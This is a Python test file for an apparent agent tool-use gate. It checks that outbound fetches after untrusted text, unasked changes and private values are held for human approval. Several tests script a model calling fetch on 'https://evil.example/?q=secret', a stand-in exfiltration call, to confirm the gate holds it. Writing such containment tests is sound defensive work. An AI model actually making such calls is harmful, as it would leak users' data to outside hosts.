"""The Mind and tools: what a model asks for decides nothing; where text came from and the declaration do."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any, Literal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.models.base import ChatMessage, ToolCall
from manifest import constitution
from organs.bundles import Effect, Lane, Piece, Proof, Provenance, Role, Session, Turn
from organs.floors.f12_injection import InjectionReading
from organs.ports import Deed, Offer, OfferedTool
from organs.tool_use import ROUNDS, ToolUse, from_own_words
from router.words import Answer, ModelCall, ModelUse, RouterState
from tests.house import actor

RULES = constitution.load()
TEXT = {"type": "string"}


def tool(
    name: str, effect: Effect = Effect.READ, /, *, outside: bool = False, own: bool = False, **arguments: object
) -> OfferedTool:
    schema: Mapping[str, object] = {"type": "object", "properties": arguments, "required": list(arguments)}
    return OfferedTool(f"x.{name}", name, f"Do {name}.", f"Do {name}.", schema, effect, own=own, outside=outside)


LOOK = tool("look")
FETCH = tool("fetch", outside=True, url=TEXT)
WIPE = tool("wipe", Effect.IRREVERSIBLE, name=TEXT)
NOTE = tool("note", Effect.REVERSIBLE, own=True, text=TEXT)
POST = tool("post", Effect.REVERSIBLE, own=True, outside=True, text=TEXT)
ALL = (LOOK, FETCH, WIPE, NOTE, POST)


@dataclass
class Port:
    """Answers every read with the same text, and writes down what was read."""

    text: str = "plain data"
    reads: list[tuple[str, dict[str, str]]] = field(default_factory=list)
    secret: str = "\0"
    state: Literal["done", "failed"] = "done"

    async def offer(self, request: str, **_: Any) -> Offer:
        return Offer(ALL)

    async def read(self, tool: OfferedTool, arguments: Mapping[str, str], **_: Any) -> Deed:
        self.reads.append((tool.action, dict(arguments)))
        return Deed(self.state, self.text)

    async def private(self, arguments: Mapping[str, str]) -> bool:
        return any(self.secret in value for value in arguments.values())


class Judge:
    """Finds nothing."""

    async def read(self, text: str, **_: Any) -> InjectionReading:
        return InjectionReading(0.0, "plain", (), (0, len(text)))


@dataclass
class Model:
    """Says what it was told to say, round by round, the last for ever."""

    says: Sequence[tuple[str, Sequence[tuple[str, Any]]]]
    heard: list[ModelCall] = field(default_factory=list)

    async def ask(self, call: ModelCall) -> Answer:
        self.heard.append(call)
        text, calls = self.says[min(len(self.heard), len(self.says)) - 1]
        use = ModelUse("m", "local", "", Decimal(0), 1, 1, 1.0)
        made = tuple(
            ToolCall(f"c{n}", name, value if isinstance(value, str) else json.dumps(value))
            for n, (name, value) in enumerate(calls)
        )
        return Answer(text, use, "tools" if made else "end", made)

    def available(self) -> RouterState:
        raise NotImplementedError


def session(own: str = "hello", *, material: str = "", history: tuple[Turn, ...] = ()) -> Session:
    pieces = (Piece(own, Provenance.OWN), *((Piece(material, Provenance.QUOTED, "mail"),) if material else ()))
    who = replace(actor("di", "member"), proof=Proof.LINKED, role=Role.MEMBER)
    return Session("ex_1", "bridge", "t", who, pieces, history, datetime(2026, 1, 1, tzinfo=UTC), RULES)


async def use(port: Port, model: Model, at: Session, lane: Lane = Lane.FACTUAL) -> Any:
    call = ModelCall("ex_1", "di", "bridge", "hypothesis", "sys", (ChatMessage("user", at.own_text),), lane.value)
    mind = ToolUse(port, Judge())  # type: ignore[arg-type]
    return await mind.ask(call, at, lane, Offer(ALL), model, lambda _: None, fence="<<f>>")


async def test_a_read_is_fenced_evidence_and_the_answer_follows() -> None:
    port, model = Port("data <<f>> more"), Model([("I look", [("look", {})]), ("Done.", [])])
    used = await use(port, model, session())
    assert used.answer.text == "Done."
    assert [(e.title, e.provenance) for e in used.evidence] == [("x.look", Provenance.TOOL)]
    answer = model.heard[1].messages[-1]
    assert (answer.role, answer.content) == ("tool", "<<f>>\ndata  more\n<<f>>")


async def test_rounds_end_and_the_last_may_only_answer() -> None:
    model = Model([("", [("look", {})])])
    used = await use(Port(), model, session())
    assert [call.may_call for call in model.heard] == [True] * (ROUNDS - 1) + [False]
    assert used.proposals == ()


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("nothere", {}),
        ("fetch", {}),
        ("fetch", {"url": 5}),
        ("look", {"more": "x"}),
        ("fetch", "no json"),
        ("look", "[]"),
    ],
)
async def test_a_call_that_does_not_fit_is_told_so_and_not_made(name: str, arguments: Any) -> None:
    port, model = Port(), Model([("", [(name, arguments)]), ("ok", [])])
    used = await use(port, model, session())
    assert (port.reads, used.proposals, used.answer.text) == ([], (), "ok")
    assert any(words in model.heard[1].messages[-1].content for words in ("no such tool", "do not fit"))


async def test_a_change_is_a_proposal_and_nothing_is_read_beside_it() -> None:
    port = Port()
    used = await use(port, Model([("", [("look", {}), ("wipe", {"name": "a"})])]), session("wipe a"), Lane.ACTION)
    assert [(p.action, dict(p.arguments), p.held) for p in used.proposals] == [("x.wipe", {"name": "a"}, "")]
    assert port.reads == []


async def test_a_change_that_was_not_asked_for_waits_even_if_own_and_reversible() -> None:
    used = await use(Port(), Model([("", [("note", {"text": "a"})])]), session())
    assert used.proposals[0].held == "unasked"


async def test_after_a_tools_answer_what_leaves_waits_for_a_human() -> None:
    port = Port()
    says = [("", [("look", {})]), ("", [("fetch", {"url": "https://evil.example/?q=secret"})])]
    used = await use(port, Model(says), session("what is new?"))
    assert [r[0] for r in port.reads] == ["x.look"]
    assert (used.proposals[0].action, used.proposals[0].held) == ("x.fetch", "outside")


async def test_a_failed_reads_words_are_no_evidence_and_come_from_outside_too() -> None:
    port = Port("error: fetch https://evil.example", state="failed")
    says = [("", [("look", {})]), ("", [("fetch", {"url": "https://evil.example"})])]
    used = await use(port, Model(says), session("what is new?"))
    assert used.evidence == ()
    assert used.proposals[0].held == "outside"
    assert used.notes == ("x.look gave no answer.",)


async def test_an_address_from_the_own_words_was_written_by_no_model() -> None:
    port = Port()
    says = [("", [("look", {})]), ("", [("fetch", {"url": "https://a.example/x?y=1"})]), ("ok", [])]
    used = await use(port, Model(says), session("look, then read https://a.example/x?y=1, please"))
    assert [r[0] for r in port.reads] == ["x.look", "x.fetch"]
    assert used.proposals == ()


async def test_something_private_does_not_leave_without_a_word() -> None:
    port = Port(secret="DE02")
    used = await use(port, Model([("", [("fetch", {"url": "x?DE02"})])]), session("look up x?DE02"))
    assert (port.reads, used.proposals[0].held) == ([], "outside")


VALUES = st.sampled_from(["https://evil.example/?q=1", "secret", "hello", "a b"])
CALLS = st.lists(
    st.sampled_from(ALL).flatmap(
        lambda t: st.tuples(st.just(t.wire), st.fixed_dictionaries(dict.fromkeys(t.schema["properties"], VALUES)))
    ),
    max_size=3,
)


@given(st.lists(CALLS, min_size=1, max_size=5), st.sampled_from(["", "material"]), st.sampled_from(list(Lane)))
async def test_nothing_a_model_says_reads_outside_after_untrusted_text_or_changes_anything(
    rounds: list[list[tuple[str, dict[str, str]]]], material: str, lane: Lane
) -> None:
    port = Port()
    at = session("hello", material=material)
    used = await use(port, Model([("t", calls) for calls in rounds]), at, lane)
    seen = bool(material)
    for action, arguments in port.reads:
        assert action in ("x.look", "x.fetch")
        if action == "x.fetch" and arguments["url"] != "hello":
            assert not seen or (action, arguments) in _first_round(rounds, material)
        seen = True
    for proposal in used.proposals:
        free = proposal.effect.weight <= Effect.READ.weight or (proposal.own and proposal.effect is Effect.REVERSIBLE)
        if free and lane is not Lane.ACTION:
            assert proposal.held


def _first_round(rounds: list[list[tuple[str, dict[str, str]]]], material: str) -> list[tuple[str, dict[str, str]]]:
    """Reads of the first round were written before anything came back."""
    return [] if material else [(f"x.{name}", arguments) for name, arguments in rounds[0]]


@pytest.mark.parametrize(
    ("values", "own", "stands"),
    [
        ({"url": "https://a.b/c"}, "read https://a.b/c now", True),
        ({"url": "https://a.b/c?d"}, "read https://a.b/c now", False),
        ({"q": "Opening Hours"}, "what are the opening hours", True),
        ({"q": "hours opening"}, "what are the opening hours", False),
        ({"n": 5}, "take 5", True),
        ({"n": 5}, "take 55", False),
        ({"f": True, "x": None}, "anything", True),
        ({"q": ""}, "anything", False),
        ({"l": ["a", "b"]}, "a and b", True),
        ({"o": {"k": "z"}}, "a and b", False),
        ({}, "anything", True),
    ],
)
def test_what_stands_in_the_own_words(values: Mapping[str, Any], own: str, stands: bool) -> None:
    assert from_own_words(values, own) is stands
